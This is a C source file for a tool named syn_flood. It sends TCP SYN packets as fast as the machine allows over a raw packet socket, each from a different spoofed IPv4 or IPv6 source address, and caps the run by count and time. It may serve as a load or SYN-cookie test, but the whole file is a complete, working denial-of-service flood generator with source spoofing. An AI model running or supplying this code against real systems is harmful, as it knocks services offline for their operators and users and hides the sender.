// SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
/*
 * SYNs, each from another source, as fast as this machine sends them.
 *
 * syn_flood INTERFACE ADDRESS PORT MAC COUNT SECONDS: at most COUNT, for at most SECONDS; prints how
 * many there were and how long it took. Sources are in 10.0.0.0/8 or 2001:db8:f100::/96; every
 * checksum is right.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64

struct __attribute__((packed)) frame4 {
	struct ether_header ether;
	struct iphdr ip;
	struct tcphdr tcp;
};

struct __attribute__((packed)) frame6 {
	struct ether_header ether;
	struct ip6_hdr ip;
	struct tcphdr tcp;
};

union frame {
	struct frame4 v4;
	struct frame6 v6;
};

static uint16_t checksum(uint32_t sum, const void *data, size_t size)
{
	const uint8_t *bytes = data;

	for (size_t i = 0; i < size; i++)
		sum += i % 2 ? bytes[i] : bytes[i] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons(~sum & 0xffff);
}

static uint32_t sum_of(const void *data, size_t size)
{
	return (uint16_t)~ntohs(checksum(0, data, size));
}

static void fill_tcp(struct tcphdr *tcp, uint32_t n, uint16_t port, uint32_t pseudo)
{
	*tcp = (struct tcphdr){ .source = htons(1024 + n % 60000),
				.dest = htons(port),
				.seq = htonl(n),
				.doff = 5,
				.syn = 1,
				.window = htons(64240) };
	tcp->check = checksum(pseudo + IPPROTO_TCP + sizeof(*tcp), tcp, sizeof(*tcp));
}

static size_t fill4(struct frame4 *f, uint32_t n, const struct in_addr *to, uint16_t port)
{
	struct iphdr ip = { .version = 4,
			    .ihl = 5,
			    .tot_len = htons(sizeof(struct iphdr) + sizeof(struct tcphdr)),
			    .ttl = 64,
			    .protocol = IPPROTO_TCP,
			    .saddr = htonl(10u << 24 | ((n + 1) & 0xffffff)),
			    .daddr = to->s_addr };
	struct tcphdr tcp;

	ip.check = checksum(0, &ip, sizeof(ip));
	fill_tcp(&tcp, n, port, sum_of(&ip.saddr, 8));
	f->ip = ip;
	f->tcp = tcp;
	return sizeof(*f);
}

static size_t fill6(struct frame6 *f, uint32_t n, const struct in6_addr *to, uint16_t port)
{
	struct ip6_hdr ip = { .ip6_plen = htons(sizeof(struct tcphdr)),
			      .ip6_nxt = IPPROTO_TCP,
			      .ip6_hops = 64,
			      .ip6_dst = *to };
	struct tcphdr tcp;

	ip.ip6_vfc = 6 << 4;
	inet_pton(AF_INET6, "2001:db8:f100::", &ip.ip6_src);
	ip.ip6_src.s6_addr32[3] = htonl(n + 1);
	fill_tcp(&tcp, n, port, sum_of(&ip.ip6_src, 32));
	f->ip = ip;
	f->tcp = tcp;
	return sizeof(*f);
}

struct flood {
	int fd;
	bool v6;
	struct in_addr to4;
	struct in6_addr to6;
	uint16_t port;
	union frame frames[BATCH];
	struct iovec iov[BATCH];
	struct mmsghdr messages[BATCH];
};

static int open_flood(struct flood *f, const char *interface, const char *mac)
{
	struct sockaddr_ll address = { .sll_family = AF_PACKET,
				       .sll_ifindex = (int)if_nametoindex(interface) };
	const struct ether_addr *to = ether_aton(mac);
	socklen_t size = sizeof(address);
	int one = 1;

	f->fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	if (f->fd < 0 || bind(f->fd, (struct sockaddr *)&address, sizeof(address)) ||
	    getsockname(f->fd, (struct sockaddr *)&address, &size) ||
	    setsockopt(f->fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)))
		return -errno;
	if (!to)
		return -EINVAL;
	for (int i = 0; i < BATCH; i++) {
		struct ether_header *h = &f->frames[i].v4.ether;

		memcpy(h->ether_dhost, to, ETH_ALEN);
		memcpy(h->ether_shost, address.sll_addr, ETH_ALEN);
		h->ether_type = htons(f->v6 ? ETHERTYPE_IPV6 : ETHERTYPE_IP);
		f->iov[i].iov_base = &f->frames[i];
		f->messages[i].msg_hdr = (struct msghdr){ .msg_iov = &f->iov[i], .msg_iovlen = 1 };
	}
	return 0;
}

static void fill_batch(struct flood *f, uint32_t first)
{
	for (uint32_t i = 0; i < BATCH; i++)
		f->iov[i].iov_len =
			f->v6 ? fill6(&f->frames[i].v6, first + i, &f->to6, f->port) :
				fill4(&f->frames[i].v4, first + i, &f->to4, f->port);
}

/* What finds the queue full is sent again: COUNT is what has left. */
static int send_batch(struct flood *f, unsigned n)
{
	unsigned sent = 0;

	while (sent < n) {
		int r = sendmmsg(f->fd, f->messages + sent, n - sent, 0);

		if (r > 0)
			sent += (unsigned)r;
		else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
			return -errno;
	}
	return 0;
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	static struct flood f;
	unsigned long count, sent = 0;
	double began = now(), seconds;
	int r;

	if (argc != 7) {
		fprintf(stderr, "usage: syn_flood INTERFACE ADDRESS PORT MAC COUNT SECONDS\n");
		return 2;
	}
	f.v6 = inet_pton(AF_INET, argv[2], &f.to4) != 1;
	if (f.v6 && inet_pton(AF_INET6, argv[2], &f.to6) != 1)
		return 2;
	f.port = (uint16_t)atoi(argv[3]);
	count = strtoul(argv[5], NULL, 10);
	seconds = strtod(argv[6], NULL);
	r = open_flood(&f, argv[1], argv[4]);
	while (!r && sent < count && now() - began < seconds) {
		unsigned n = count - sent < BATCH ? (unsigned)(count - sent) : BATCH;

		fill_batch(&f, (uint32_t)sent);
		r = send_batch(&f, n);
		sent += n;
	}
	if (r)
		fprintf(stderr, "syn_flood: %s\n", strerror(-r));
	printf("%lu SYNs in %.2f s\n", sent, now() - began);
	return r != 0;
}
